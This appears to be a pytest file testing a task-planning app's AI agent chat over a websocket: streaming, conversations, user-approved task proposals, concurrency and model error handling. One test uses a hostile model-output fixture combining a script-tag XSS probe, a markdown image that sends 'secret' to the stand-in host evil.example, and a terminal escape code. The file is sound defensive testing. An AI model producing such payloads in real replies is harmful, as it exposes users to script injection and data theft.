"""Talking with the agent: what is said, streamed, proposed and decided."""

import pytest
from sqlalchemy import select

from questlog.coach.conversations import CONVERSATIONS, MESSAGES
from questlog.core.db import Database
from questlog.planning.models import Task
from tests.support.happened import happened
from tests.support.make import Make
from tests.support.model_server import (
    ModelServer,
    Reply,
    calling,
    failing,
    saying,
)
from tests.support.peers import House
from tests.support.talks import at, count, run_of, said_in, up_to


async def test_an_answer_comes_piece_by_piece(house: House, model: ModelServer, make: Make) -> None:
    user = await make.user()
    model.replies = [saying("Good ", "morning", ".")]

    async with at(house, user) as peer:
        await peer.say({"type": "message", "message": "Hello"})
        told = await run_of(peer)

    assert [one["type"] for one in told] == [
        "conversation_created",
        "user_prompt",
        "model_request_start",
        "part_start",
        "text_delta",
        "text_delta",
        "text_delta",
        "final_result_start",
        "final_result",
        "message_saved",
        "complete",
    ]
    assert [one["seq"] for one in told] == list(range(1, len(told) + 1))
    assert len({one["run_id"] for one in told}) == 1
    assert told[1]["data"]["prompt"] == "Hello"
    assert said_in(told) == "Good morning." == told[8]["data"]["text"]


async def test_what_is_said_next_goes_on_in_the_same_conversation(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()

    async with at(house, user) as peer:
        await peer.say({"message": "One"})
        first = await run_of(peer)
        await peer.say({"message": "Two"})
        second = await run_of(peer)
        await peer.say({"message": "Three", "conversation_id": None})
        third = await run_of(peer)

    assert first[0]["type"] == third[0]["type"] == "conversation_created"
    assert second[0]["type"] == "user_prompt"
    assert second[0]["data"]["conversation_id"] == first[0]["data"]["conversation_id"]
    assert await count(database, CONVERSATIONS.c.user_id == user.id) == 2
    assert await count(database, MESSAGES.c.user_id == user.id) == 6
    earlier = [one["content"] for one in model.requests[1]["messages"] if one["role"] != "system"]
    assert earlier == ["One", "Well.", "Two"]


@pytest.mark.parametrize("path", ["/ws/agent", "/api/ws/agent", "/api/v1/ws/agent"])
async def test_the_printed_addresses_lead_there(path: str, house: House, make: Make) -> None:
    user = await make.user()

    async with house.peer(user, path=path) as peer:
        await peer.say({"type": "ping"})
        told = await peer.next()

    assert told == {"type": "pong", "data": {}, "run_id": None, "seq": None}


async def test_s127_what_a_model_writes_is_text(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    hostile = "<script>alert(1)</script> ![](https://evil.example/?q=secret) \x1b[2J"
    model.replies = [saying(hostile)]

    async with at(house, user) as peer:
        await peer.say({"message": "Hello"})
        told = await run_of(peer)

    assert said_in(told) == hostile
    async with database.reader() as session:
        kept = await session.scalar(
            select(MESSAGES.c.content).where(MESSAGES.c.role == "assistant")
        )
    assert kept == hostile


async def test_s125_a_proposal_is_decided_once_and_from_any_device(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    model.replies = [calling("create_task", {"title": "Buy milk"}), saying("I propose it.")]

    async with at(house, user) as desk, at(house, user) as phone:
        await desk.say({"message": "Remind me of milk"})
        told = await run_of(desk)
        proposal = next(one["data"] for one in told if one["type"] == "proposal")
        before = await count(database, Task.user_id == user.id)
        decision = {"type": "decision", "proposal_id": proposal["id"], "accept": True}
        await phone.say(decision)
        done = await phone.next()
        await desk.say(decision)
        late = await desk.next()

    assert before == 0
    assert proposal["state"] == "open"
    assert (done["type"], done["data"]["state"]) == ("proposal", "accepted")
    assert done["run_id"] == told[0]["run_id"]
    created = await happened(database, user, "task.created")
    assert done["data"]["event_id"] == str(created[0].id)
    assert (late["type"], late["data"]["code"]) == ("error", "proposal_decided")
    assert late["data"]["answer_to"] == {"type": "decision", "proposal_id": proposal["id"]}
    assert await count(database, Task.user_id == user.id, Task.title == "Buy milk") == 1


async def test_a_rejected_proposal_changes_nothing(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    model.replies = [calling("create_task", {"title": "Buy milk"}), saying("I propose it.")]

    async with at(house, user) as peer:
        await peer.say({"message": "Remind me of milk"})
        told = await run_of(peer)
        proposal = next(one["data"] for one in told if one["type"] == "proposal")
        await peer.say({"type": "decision", "proposal_id": proposal["id"], "accept": False})
        done = await peer.next()

    assert done["data"]["state"] == "rejected"
    assert await count(database, Task.user_id == user.id) == 0


async def test_one_conversation_answers_one_thing_at_a_time(
    house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()
    model.replies = [saying("Wait", stalls=15)]

    async with at(house, user) as peer:
        await peer.say({"message": "One"})
        await up_to(peer, "text_delta")
        await peer.say({"message": "Two"})
        refused = await up_to(peer, "error")
        await peer.say({"type": "stop"})
        rest = await run_of(peer)

    assert refused[-1]["data"]["code"] == "run_in_progress"
    assert rest[-1]["type"] == "complete"


@pytest.mark.parametrize(
    ("reply", "trouble", "retryable"),
    [
        (failing(500), "unavailable", True),
        (failing(429), "rate_limited", True),
        (failing(401, "bad key the-key-of-the-model"), "refused", False),
        (saying("Half", breaks=True), "unreachable", True),
    ],
)
async def test_f26_a_model_in_trouble_is_told_and_the_conversation_goes_on(
    reply: Reply, trouble: str, retryable: bool, house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()
    model.replies = [reply]

    async with at(house, user) as peer:
        await peer.say({"message": "Hello"})
        told = await run_of(peer)
        await peer.say({"message": "Once more"})
        again = await run_of(peer)

    assert told[-1]["type"] == "error"
    assert told[-1]["data"]["retryable"] is retryable
    assert told[-1]["data"]["code"] == "model_unavailable"
    assert told[-1]["data"]["trouble"] == trouble
    assert ("try again" in told[-1]["data"]["detail"]) is retryable
    assert "the-key-of-the-model" not in str(told)
    assert again[-1]["type"] == "complete"
